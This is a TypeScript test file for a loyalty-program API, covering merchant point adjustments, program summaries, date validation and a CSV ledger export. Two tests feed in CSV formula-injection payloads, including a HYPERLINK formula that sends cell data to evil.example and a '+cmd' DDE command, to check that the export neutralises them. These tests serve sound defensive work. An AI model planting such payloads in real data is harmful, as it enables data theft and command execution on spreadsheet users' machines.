/**
 * Merchant self-service and program reports over HTTP: a merchant's adjustment within the limit an admin sets,
 * the program summary from its projection, and the ledger as CSV (RFC 4180).
 */
import test from 'ava';
import http from 'node:http';
import pg from 'pg';
import { v4 as uuid } from 'uuid';
import { startTestService, type TestService } from '../support/service.ts';
import { TEST_JWT_SECRET, tokenFor } from '../support/http.ts';
import { loyalty } from '../support/loyalty.ts';
import { walletStream } from '../../domain/wallets/wallet.ts';

let service: TestService;
let world: ReturnType<typeof loyalty>;
const ADMIN_EMAIL = 'ops@program.test';

test.before(async () => {
  service = await startTestService({ AUTH_JWT_SECRET: TEST_JWT_SECRET, ADMIN_EMAILS: ADMIN_EMAIL });
  world = loyalty(service, ADMIN_EMAIL);
});
test.after.always(async () => {
  await service?.stop();
});

const today = () => new Date().toISOString().slice(0, 10);
const dayOf = (at: Date) => at.toISOString().slice(0, 10);

/**
 * The wallets' events and the first and last UTC days they were recorded on: what a summary of them must cover (a
 * run crossing 00:00 UTC records them on two days; the clock read before or after them may name neither).
 */
async function recorded(...walletIds: string[]) {
  const events = (await Promise.all(walletIds.map((id) => service.tally.store.readStream(walletStream(id))))).flat();
  const days = events.map((e) => dayOf(e.recordedAt)).sort();
  return { events, first: days[0]!, last: days.at(-1)!, count: (Date.parse(days.at(-1)!) - Date.parse(days[0]!)) / 86_400_000 + 1 };
}
/** What makes a customer active in a period (the program summary's `active`): points earned or spent, a reward issued. */
const ACTIVE_EVENTS = new Set(['PointsCredited', 'PointsRedeemed', 'RewardIssued', 'RewardRedeemed']);

/** RFC 4180 parsing, for the assertions: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += ch;
  }
  if (field || row.length) throw new Error('the last line does not end with CRLF');
  return rows;
}

test('a merchant corrects a wallet of their workspace within the limit the admin sets; the merchant is recorded', async (t) => {
  const { call } = world;
  const { merchant: m, walletId } = await world.walletWith(50);
  const admin = await world.admin();
  const adjust = (body: unknown, token = m.token, id = walletId) => call('POST', `/api/v1/client/wallets/${id}/adjust`, { token, body });

  t.deepEqual((await call('GET', '/api/v1/client/adjustment-limit', { token: m.token })).body, { limit: 1000 }, 'the default limit');
  const above = await adjust({ points: 1001, reason: 'forgot phone' });
  t.is(above.status, 422);
  t.is(above.body.error.code, 'ADJUSTMENT_ABOVE_LIMIT');
  t.regex(above.body.error.message, /at most 1000 points/);
  t.is((await adjust({ points: -1001, reason: 'typo' })).status, 422);
  t.is((await adjust({ points: 10 })).status, 400, 'a reason is required');
  t.is((await adjust({ points: 10, reason: 'x' }, (await world.merchant()).token)).status, 404, "another workspace's wallet");
  t.deepEqual((await world.streamOf(walletId)).map((e) => e.type), ['PointsCredited'], 'nothing was recorded');

  const key = uuid();
  const fixed = await adjust({ points: 25, reason: 'Forgot her phone: visit on 3 Nov', idempotencyKey: key });
  t.is(fixed.status, 200);
  t.like(fixed.body, { walletId, balance: 75, available: 75 });
  t.deepEqual((await adjust({ points: 25, reason: 'Forgot her phone: visit on 3 Nov', idempotencyKey: key })).body, fixed.body);
  const [event] = (await world.streamOf(walletId)).filter((e) => e.type === 'PointsAdjusted');
  t.like(event?.data, { points: 25, adjustedBy: m.id, adjustedAs: 'merchant' });
  t.is(event?.metadata.actor, `user:${m.id}`);
  const ledger = await call('GET', `/api/v1/client/wallets/${walletId}/ledger`, { token: m.token, headers: { 'x-min-position': fixed.body.position } });
  t.like(ledger.body.items[0], { kind: 'merchant_adjustment', points: 25, adminId: m.id, reason: 'Forgot her phone: visit on 3 Nov' });
  const trail = await call('GET', `/api/v1/admin/audit?walletId=${walletId}&type=PointsAdjusted`, { token: admin.token, headers: { 'x-min-position': fixed.body.position } });
  t.is(trail.status, 200);
  t.regex(JSON.stringify(trail.body), new RegExp(`user:${m.id}`), 'the audit trail holds the correction with the merchant as actor');

  const limit = (body: unknown, tenantId = m.tenantId, token = admin.token) => call('PUT', `/api/v1/admin/workspaces/${tenantId}/adjustment-limit`, { token, body });
  t.is((await limit({ limit: -1 })).status, 400);
  t.regex((await limit({ limit: 2.5 })).body.error.message, /limit must be a whole number/);
  t.is((await limit({ limit: 5000 }, 'no-such-tenant')).status, 404);
  t.is((await limit({ limit: 5000 }, m.tenantId, m.token)).status, 403, 'only an admin sets the limit');
  const raised = await limit({ limit: 5000 });
  t.like(raised.body, { tenantId: m.tenantId, limit: 5000 });
  t.like((await adjust({ points: 4000, reason: 'migrated from paper cards' })).body, { balance: 4075 });
  // A removal takes at most the available points (a mistyped -5000 for -500 is refused, naming what is available).
  const mistyped = await adjust({ points: -5000, reason: 'typo' });
  t.is(mistyped.status, 409);
  t.like(mistyped.body.error, { code: 'INSUFFICIENT_POINTS', details: { available: 4075, requested: 5000 } });
  t.like((await adjust({ points: -4075, reason: 'closing the card' })).body, { balance: 0 });
  t.like((await adjust({ points: 4075, reason: 'reopened' })).body, { balance: 4075 });
  // An administrator may take a balance below zero (a credit clawed back after it was spent).
  const clawed = await call('POST', `/api/v1/admin/wallets/${walletId}/adjust`, { token: admin.token, body: { points: -4100, reason: 'fraudulent credit, already spent' } });
  t.like(clawed.body, { balance: -25 });
  t.like((await adjust({ points: 25, reason: 'goodwill' })).body, { balance: 0 });
  t.is((await limit({ limit: 0 })).status, 200);
  t.is((await adjust({ points: 1, reason: 'x' })).status, 422, 'limit 0: merchants cannot adjust');
});

test('the program summary: points, rewards, active and top customers, outstanding points by interval', async (t) => {
  const { call } = world;
  const m = await world.merchant();
  const ann = await world.walletWith(300, m);
  const bob = await world.walletWith(120, m);
  const coffee = await world.reward(m, { name: 'Free coffee', points: 100 });
  const issued = await call('POST', `/api/v1/client/wallets/${ann.walletId}/rewards`, { token: m.token, body: { rewardId: coffee.rewardId, idempotencyKey: uuid() } });
  await call('POST', `/api/v1/client/wallets/${ann.walletId}/rewards/${issued.body.issuedReward.issuedRewardId}/redeem`, { token: m.token, body: { idempotencyKey: uuid() } });
  await call('POST', `/api/v1/client/wallets/${bob.walletId}/redeem`, { token: m.token, body: { points: 20, idempotencyKey: uuid() } });
  const last = await call('POST', `/api/v1/client/wallets/${bob.walletId}/adjust`, { token: m.token, body: { points: -5, reason: 'typo' } });
  await world.settled(last.body.position);
  const days = await recorded(ann.walletId, bob.walletId);

  const day = await call('GET', `/api/v1/client/program/summary?from=${days.first}&to=${days.last}`, { token: m.token });
  t.is(day.status, 200);
  t.deepEqual(day.body.totals, { earned: 420, redeemed: 120, expired: 0, adjusted: -5, rewardsIssued: 1, rewardsRedeemed: 1, activeCustomers: 2, outstandingAtEnd: 295 });
  t.deepEqual(day.body.topCustomers, [
    { consumerId: ann.consumer.id, walletId: ann.walletId, earned: 300 },
    { consumerId: bob.consumer.id, walletId: bob.walletId, earned: 120 },
  ]);
  t.is(day.body.intervals.length, days.count, 'one interval a day (one unless the events straddle 00:00 UTC)');

  const from = new Date(Date.now() - 40 * 86_400_000).toISOString().slice(0, 10);
  const weeks = await call('GET', `/api/v1/client/program/summary?from=${from}&to=${days.last}&interval=week`, { token: m.token });
  t.is(weeks.status, 200);
  t.true(weeks.body.intervals.length >= 6);
  const first = weeks.body.intervals[0];
  t.is(new Date(`${first.from}T00:00:00Z`).getUTCDay(), 1, 'whole weeks, from Monday');
  t.true(first.from <= from && first.to >= from, 'the first week holds `from`');
  t.is(weeks.body.from, first.from);
  t.is(first.outstanding, 0);
  const lastWeek = weeks.body.intervals.at(-1);
  t.is(lastWeek.outstanding, 295);
  t.true(lastWeek.from <= days.last && lastWeek.to >= days.last, 'the last week holds `to`');
  const activeInLastWeek = new Set(days.events.filter((e) => ACTIVE_EVENTS.has(e.type) && dayOf(e.recordedAt) >= lastWeek.from).map((e) => e.stream));
  t.is(lastWeek.activeCustomers, activeInLastWeek.size, 'both customers, unless the events straddle a Monday 00:00 UTC');
  t.deepEqual(weeks.body.topCustomers, day.body.topCustomers);
  const byDefault = await call('GET', '/api/v1/client/program/summary', { token: m.token });
  t.is(byDefault.body.intervals.length, 30, 'the last 30 days by day');
  t.is(byDefault.body.totals.outstandingAtEnd, 295);

  // Live tables still built by the projection's version 1 (after an upgrade, until its rebuild takes over) have no
  // years and no counts per interval: the summary then counts from the customers' rows, with the same figures.
  const db = new pg.Client({ connectionString: service.database.url });
  await db.connect();
  try {
    await db.query(`UPDATE projection_checkpoints SET version = 1 WHERE name = 'program_summary'`);
    await db.query(`DELETE FROM program_period_customers`);
    await db.query(`DELETE FROM program_customer_periods WHERE granularity = 'year'`);
    t.deepEqual((await call('GET', `/api/v1/client/program/summary?from=${from}&to=${days.last}&interval=week`, { token: m.token })).body, weeks.body);
    t.deepEqual((await call('GET', '/api/v1/client/program/summary', { token: m.token })).body, byDefault.body);
  } finally {
    await db.query(`UPDATE projection_checkpoints SET version = 2 WHERE name = 'program_summary'`);
    await db.end();
  }

  const other = await world.merchant();
  t.like((await call('GET', `/api/v1/client/program/summary?from=${today()}&to=${today()}`, { token: other.token })).body.totals, { earned: 0, activeCustomers: 0 });
  for (const [q, message] of [
    [`from=${today()}&to=2020-01-01`, /from must be on or before to/],
    ['from=2026-02-30', /from must be a date as YYYY-MM-DD/],
    ['from=yesterday', /from must be a date/],
    ['interval=year', /interval must be 'day', 'week' or 'month'/],
    ['from=2020-01-01&to=2026-01-01&interval=day', /more than 400 intervals/],
    // Thousands of years by day: refused at once, without listing millions of days first.
    ['from=0001-01-01&to=9999-12-31&interval=day', /more than 400 intervals/],
    // A year PostgreSQL does not store is not a date here (it was a 500).
    ['from=0000-01-01&to=0000-01-05', /from must be a date as YYYY-MM-DD/],
    // Widened to whole weeks, the range would end in year 10000 (it was a 500).
    ['from=9999-12-27&to=9999-12-31&interval=week', /to is in a week that ends after 9999-12-31/],
  ] as const) {
    const response = await call('GET', `/api/v1/client/program/summary?${q}`, { token: m.token });
    t.is(response.status, 400, q);
    t.regex(response.body.error.message, message, q);
  }
  // At the edges of the days a summary covers: the default `from` stops at 0001-01-01 (it fell in year 0000, a 500).
  for (const [q, from, to] of [
    ['to=0001-01-05', '0001-01-01', '0001-01-05'],
    ['from=0001-01-01&to=0001-01-02&interval=week', '0001-01-01', '0001-01-07'],
    ['from=9999-12-27&to=9999-12-31&interval=month', '9999-12-01', '9999-12-31'],
    ['from=9999-12-31&to=9999-12-31', '9999-12-31', '9999-12-31'],
  ] as const) {
    const response = await call('GET', `/api/v1/client/program/summary?${q}`, { token: m.token });
    t.is(response.status, 200, q);
    t.like(response.body, { from, to }, q);
  }
});

test('the ledger streams as RFC 4180 CSV: a header, one row per line, quoted fields, only the workspace, in range', async (t) => {
  const { call } = world;
  const { merchant: m, walletId, consumer: c } = await world.walletWith(40);
  const reason = 'Forgot phone, "again"\nsee note';
  const adjusted = await call('POST', `/api/v1/client/wallets/${walletId}/adjust`, { token: m.token, body: { points: 7, reason } });
  t.is(adjusted.status, 200);
  await world.settled(adjusted.body.position);
  await world.walletWith(99); // another workspace's line

  const response = await fetch(`${service.url}/api/v1/client/ledger.csv`, { headers: { authorization: `Bearer ${m.token}` } });
  t.is(response.status, 200);
  t.regex(response.headers.get('content-type') ?? '', /^text\/csv/);
  t.regex(response.headers.get('content-disposition') ?? '', /attachment; filename="ledger-/);
  const text = await response.text();
  t.true(text.endsWith('\r\n'));
  const rows = parseCsv(text);
  t.deepEqual(rows[0], ['time', 'line_id', 'wallet_id', 'consumer_id', 'kind', 'points', 'balance_after', 'locked_change', 'reward_id', 'issued_reward_id', 'payment_id', 'refund_id', 'actor_id', 'reason', 'reference']);
  t.is(rows.length, 3);
  const [credit, adjustment] = rows.slice(1).map((r) => Object.fromEntries(rows[0]!.map((h, i) => [h, r[i]])));
  t.like(credit, { wallet_id: walletId, consumer_id: c.id, kind: 'earn', points: '40', balance_after: '40' });
  t.like(adjustment, { kind: 'merchant_adjustment', points: '7', balance_after: '47', actor_id: m.id, reason });
  t.regex(credit!.time!, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/, 'ISO 8601 times');

  // Typed text that a spreadsheet would run as a formula is written inert, with a leading apostrophe.
  const formula = '=HYPERLINK("https://evil.example","refund")';
  const other = await world.walletWith(10);
  const tricked = await call('POST', `/api/v1/client/wallets/${other.walletId}/adjust`, { token: other.merchant.token, body: { points: -2, reason: formula } });
  await world.settled(tricked.body.position);
  const exported = parseCsv(await (await fetch(`${service.url}/api/v1/client/ledger.csv`, { headers: { authorization: `Bearer ${other.merchant.token}` } })).text());
  t.is(exported.at(-1)![rows[0]!.indexOf('reason')], `'${formula}`);
  t.is(exported.at(-1)![rows[0]!.indexOf('points')], '-2', 'numbers as they are');

  const csv = (q: string) => call('GET', `/api/v1/client/ledger.csv?${q}`, { token: m.token });
  t.is((await csv('to=2020-01-01')).body, `${rows[0]!.join(',')}\r\n`, 'nothing before 2020: the header alone');
  const days = await recorded(walletId);
  t.is(parseCsv((await csv(`from=${days.first}&to=${days.last}`)).body).length, 3, 'a day as `to` includes that day');
  const bad = await csv(`from=${today()}&to=2020-01-01`);
  t.is(bad.status, 400);
  t.regex(bad.body.error.message, /from must be before to/);
  t.regex((await csv('from=soon')).body.error.message, /from must be a date \(YYYY-MM-DD\) or an ISO 8601 instant/);
  // Dates that do not exist are refused, not rolled over (2026-04-31 was read as 1 May).
  for (const q of ['from=2026-02-30', 'to=2026-04-31', 'to=2026-04-31T12:00:00Z', 'from=0000-01-01']) {
    const refused = await csv(q);
    t.is(refused.status, 400, q);
    t.regex(refused.body.error.message, /must be a date \(YYYY-MM-DD\) or an ISO 8601 instant/, q);
  }
  // An instant names its offset: without one, the server's time zone would decide what it means.
  const local = await csv('from=2026-01-31T12:00:00');
  t.is(local.status, 400);
  t.regex(local.body.error.message, /with its offset/);
  t.is((await csv('from=2020-01-01T12:00:00.5%2B01:00')).status, 200);
  t.is((await csv('from=2020-01-01T11:00:00Z')).status, 200);
});

test('ids in the CSV that a token chose are written inert too: a formula as consumer_id or actor_id gets a leading apostrophe', async (t) => {
  const { call } = world;
  // A token's `sub` is any text of 1 to 200 characters: a consumer's and a merchant's user ids here are formulas.
  const consumerId = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  const merchantId = '+cmd|" /C calc"!A0';
  const token = await tokenFor(consumerId, `formula.${uuid().slice(0, 8)}@example.com`);
  t.is((await call('POST', '/api/v1/me/register', { token, body: { role: 'consumer' } })).status, 201);
  const merchantToken = await tokenFor(merchantId, `formula.${uuid().slice(0, 8)}@cafe.test`);
  t.is((await call('POST', '/api/v1/me/register', { token: merchantToken, body: { role: 'client', businessName: `Cafe ${uuid().slice(0, 6)}` } })).status, 201);
  const approval = await call('PATCH', `/api/v1/admin/users/${encodeURIComponent(merchantId)}/approve`, { token: (await world.admin()).token });
  t.is(approval.status, 200);
  const wallet = { walletId: uuid(), tenantId: approval.body.user.tenantId as string, consumerId };
  await world.settled(await world.credit(wallet, 10));
  const adjusted = await call('POST', `/api/v1/client/wallets/${wallet.walletId}/adjust`, { token: merchantToken, body: { points: 1, reason: 'welcome' } });
  t.is(adjusted.status, 200);
  await world.settled(adjusted.body.position);

  const response = await fetch(`${service.url}/api/v1/client/ledger.csv`, { headers: { authorization: `Bearer ${merchantToken}` } });
  t.is(response.status, 200);
  const [header, ...lines] = parseCsv(await response.text());
  const rows = lines.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
  t.is(rows.length, 2);
  t.deepEqual(rows.map((r) => r.consumer_id), [`'${consumerId}`, `'${consumerId}`]);
  t.like(rows[1], { kind: 'merchant_adjustment', actor_id: `'${merchantId}`, reason: 'welcome', wallet_id: wallet.walletId, points: '1' });
});

test('the CSV and the summary refuse a parameter they do not know: a misspelt `from` would widen the range', async (t) => {
  const m = await world.merchant();
  for (const path of ['/api/v1/client/ledger.csv', '/api/v1/client/program/summary']) {
    const refused = await world.call('GET', `${path}?frm=2026-12-09`, { token: m.token });
    t.is(refused.status, 400, path);
    t.is(refused.body.error.code, 'VALIDATION_FAILED', path);
    t.regex(refused.body.error.message, /query: unknown parameter "frm"/, path);
  }
  // An administrator names the workspace with tenantId: that one is known.
  const admin = await world.admin();
  t.is((await world.call('GET', `/api/v1/client/ledger.csv?tenantId=${m.tenantId}&from=2026-01-01`, { token: admin.token })).status, 200);
  t.is((await world.call('GET', `/api/v1/client/program/summary?tenantId=${m.tenantId}&interval=week`, { token: admin.token })).status, 200);
});

/** A download that stops reading once the answer's head has come: its status and its response, paused. */
function stalledDownload(url: URL, token: string): Promise<{ status: number | undefined; response: http.IncomingMessage; request: http.ClientRequest }> {
  return new Promise((resolve, reject) => {
    const request = http.get(url, { headers: { authorization: `Bearer ${token}` } }, (response) => {
      response.pause(); // a client that stops reading (a slow network, a script, a malicious merchant)
      resolve({ status: response.statusCode, response, request });
    });
    request.on('error', reject);
  });
}

// The export reads PostgreSQL's ledger, whichever the event store: the KurrentDB run (program-kurrentdb.test.ts) leaves
// this slow test to the PostgreSQL one.
const exportTest = process.env.TEST_EVENT_STORE === 'kurrentdb' ? test.skip : test;
exportTest('a download that stops reading holds no connection and no transaction: the API and other exports go on; the file is the ledger as the export began', async (t) => {
  // A pool of 4 and 4 stalled downloads: each held a connection in an open transaction (a cursor), and the API stopped.
  const small = await startTestService({ AUTH_JWT_SECRET: TEST_JWT_SECRET, ADMIN_EMAILS: ADMIN_EMAIL, DATABASE_POOL_SIZE: '4' });
  const stalled: Awaited<ReturnType<typeof stalledDownload>>[] = [];
  try {
    const w = loyalty(small, ADMIN_EMAIL);
    const m = await w.merchant();
    const { walletId } = await w.walletWith(5, m);
    // 60,000 lines of 300 characters of 2025, two to a microsecond-exact time (18 MB): more than the sockets' buffers hold, so the writes wait on the client.
    await small.database.pool.query(
      `INSERT INTO wallet_ledger (id, wallet_id, tenant_id, entry_type, kind, points, balance_after, payment_id, reason, position, revision, created_at)
       SELECT 'line-' || lpad(i::text, 5, '0'), $2, $1, 'credit', 'earn', 1, i, 'pay-' || i, repeat('x', 300), i::text, 1000 + i,
              timestamptz '2025-01-01' + make_interval(secs => i / 2 + 0.000123)
         FROM generate_series(1, 60000) i`,
      [m.tenantId, walletId],
    );
    const url = new URL(`${small.url}/api/v1/client/ledger.csv?from=2025-01-01&to=2025-12-31`);
    for (let i = 0; i < 4; i++) stalled.push(await stalledDownload(url, m.token));
    t.deepEqual(stalled.map((d) => d.status), [200, 200, 200, 200]);
    // A line written after the exports began, inside their range but after their last line: not in their files.
    await small.database.pool.query(
      `INSERT INTO wallet_ledger (id, wallet_id, tenant_id, entry_type, kind, points, balance_after, position, revision, created_at)
       VALUES ('line-late', $2, $1, 'credit', 'earn', 1, 1, '0', 999, timestamptz '2025-12-01')`,
      [m.tenantId, walletId],
    );

    const other = await w.call('GET', `/api/v1/client/wallets/${walletId}/ledger`, { token: m.token });
    t.is(other.status, 200, 'the API answers while 4 downloads are stalled on a pool of 4');
    const held = await small.database.pool.query(
      `SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state = 'idle in transaction'`,
    );
    t.is(held.rows[0].n, 0, 'no session idles in a transaction while its download waits on the client');
    const fifth = await fetch(url, { headers: { authorization: `Bearer ${m.token}` } });
    t.is(fifth.status, 200);
    const fifthLines = (await fifth.text()).split('\r\n');
    t.is(fifthLines.length, 60_000 + 3, 'a header, 60,000 lines, the late one and the last CRLF');

    // A stalled download read to its end: every line of the range as it began, in order, each once.
    const first = stalled[0]!.response;
    const chunks: Buffer[] = [];
    first.on('data', (chunk: Buffer) => chunks.push(chunk));
    first.resume();
    await new Promise((resolve) => first.once('end', resolve));
    const lines = Buffer.concat(chunks).toString('utf8').split('\r\n');
    t.is(lines.pop(), '', 'the last row ends with CRLF');
    t.is(lines.length, 60_001);
    const ids = lines.slice(1).map((line) => line.split(',')[1]);
    t.deepEqual(ids, Array.from({ length: 60_000 }, (_, i) => `line-${String(i + 1).padStart(5, '0')}`), 'every line, in time order then id, once');
    t.false(ids.includes('line-late'));
  } finally {
    for (const { request } of stalled) request.destroy();
    await small.stop();
  }
});

test.serial('an export whose first page fails answers a JSON error, not a 200 cut short', async (t) => {
  const m = await world.merchant();
  // A real fault: the ledger's table is not there for the query (it is put back at once).
  await service.database.pool.query('ALTER TABLE wallet_ledger RENAME TO wallet_ledger_away');
  let response: Response;
  try {
    response = await fetch(`${service.url}/api/v1/client/ledger.csv`, { headers: { authorization: `Bearer ${m.token}` } });
  } finally {
    await service.database.pool.query('ALTER TABLE wallet_ledger_away RENAME TO wallet_ledger');
  }
  t.is(response.status, 500);
  t.regex(response.headers.get('content-type') ?? '', /^application\/json/);
  t.like(await response.json(), { error: { code: 'INTERNAL' } });
});

test('the OpenAPI listing names every loyalty program route with its access level', async (t) => {
  const listing = await world.call('GET', '/openapi.json');
  const paths = listing.body.paths as Record<string, Record<string, { 'x-access': string }>>;
  const expected: [string, string, string][] = [
    ['/api/v1/client/rewards', 'get', 'tenant'],
    ['/api/v1/client/rewards', 'post', 'tenant'],
    ['/api/v1/client/rewards/{rewardId}/retire', 'post', 'tenant'],
    ['/api/v1/me/wallets/{walletId}/rewards', 'get', 'user'],
    ['/api/v1/client/wallets/{walletId}/rewards', 'post', 'tenant'],
    ['/api/v1/client/wallets/{walletId}/rewards/{issuedRewardId}/redeem', 'post', 'tenant'],
    ['/api/v1/client/wallets/{walletId}/rewards/{issuedRewardId}/void', 'post', 'tenant'],
    ['/api/v1/client/expiry-policy', 'put', 'tenant'],
    ['/api/v1/client/expiry-policy', 'get', 'tenant'],
    ['/api/v1/internal/cron/expire-points', 'post', 'cron'],
    ['/api/v1/client/wallets/{walletId}/adjust', 'post', 'tenant'],
    ['/api/v1/admin/workspaces/{tenantId}/adjustment-limit', 'put', 'admin'],
    ['/api/v1/client/program/summary', 'get', 'tenant'],
    ['/api/v1/client/ledger.csv', 'get', 'tenant'],
  ];
  for (const [path, method, access] of expected) t.is(paths[path]?.[method]?.['x-access'], access, `${method} ${path}`);
});
